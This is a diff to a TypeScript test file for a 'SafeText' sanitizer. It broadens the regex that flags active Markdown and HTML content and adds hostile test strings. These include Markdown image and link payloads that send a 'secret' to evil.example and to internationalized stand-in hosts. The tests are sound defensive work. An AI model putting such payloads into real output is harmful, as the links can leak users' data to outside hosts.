@@ -16,7 +16,7 @@ function show(text: string, size = text.length): string {
 
 /** Whatever CommonMark, GitHub's Markdown, HTML or a chat program makes active. */
 const ACTIVE =
-  /&#|&(?:colon|commat|period|lpar);|\\[:/@]|www\\\.|(?<![:\w])\/\/[a-z]|[\w~/]help@|www\.[">]|\]\(|!\[|\]:|<[a-z/!?]|(?:[a-z][a-z0-9+.-]*:\/\/|www\.|mailto:|xmpp:)(?!example\.org)|[\w~.]@evil|evil\.example\/|evil\.example\?/i;
+  /&#|&(?:colon|commat|period|lpar);|\\[:/@]|www\\\.|(?<![:\w])\/\/[a-z]|[\w~/]help@|www\.[">]|\]\(|!\[|\]:|<[a-z/!?]|(?:[a-z][a-z0-9+.-]*:\/\/|www\.|mailto:|xmpp:)(?!example\.org)|[\w~.]@evil|evil\.(?:example|xn--p1ai|пример)(?::\d+)?[/?#]|евил\.рф[/?#:]|公司\.中国[/?#]|bücher\.example[/?#]|@(?:евил|公司)/i;
 
 const HOSTILE = [
   '![x](https://evil.example/p.png?d=secret)',
@@ -56,6 +56,11 @@ const HOSTILE = [
   '!\u2060[x](//evil.example/secret)',
   '=@evil.example **@evil.example',
   '&lt;img src=//evil.example/secret&gt;',
+  'evil.example:8443/secret evil.example:80?d=secret',
+  '_evil.example/secret_ __evil.example/secret__ a_evil.example/secret _._evil.example/secret_',
+  'evil.xn--p1ai/secret xn--80ak6aa92e.evil.xn--p1ai?secret evil.пример/secret',
+  'евил.рф/secret евил.рф:8080/secret 请看公司.中国/secret bücher.example/secret',
+  'secret@евил.рф secret@公司.中国',
 ];
 
 describe('SafeText', () => {
@@ -73,8 +78,16 @@ describe('SafeText', () => {
     'See https://example.org/manual?page=2, then (www.example.org/faq).',
     'Write to help@example.org.',
     'example.net/path/to',
+    '请看 example.net/path/to',
   ])('an address of the sources stays: %s', (text) => {
     for (const size of [1, 5, text.length]) expect(show(text, size)).toBe(text);
+  });
+
+  test('an address of the sources is set apart from a sentence without spaces', () => {
+    for (const size of [1, 5, 100])
+      expect(show('请看example.net/path/to 和help@example.org。', size)).toBe(
+        '请看 example.net/path/to 和 help@example.org 。',
+      );
   });
 
   test('a link to an address of the sources becomes that address', () => {
@@ -86,6 +99,8 @@ describe('SafeText', () => {
     'if (a < b && b > c) return x[0]; // and/or',
     'Größe: 5 µm; 桥于1931年通车。主跨504米。',
     'Version 1.2.3, e.g. for Node.js; see section 4.2.',
+    'my_file.txt, src/my_module.py and Node.js:18, at 12.30/13.15, v1.2/3, 1.2:3/4; is it my_script.py?',
+    'т.е. и/или, 5 руб./кг; z.B. Nm/kg; 见文件.txt，第3.安装步骤。主跨504.5米/秒',
     'می‌خواهم 👩‍👩‍👧',
     'AT&amp;T &copy; 2024; R&D; a && b; C:\\Users\\x; \\(x^2\\); \\d+\\.\\d+; // a comment',
     '',
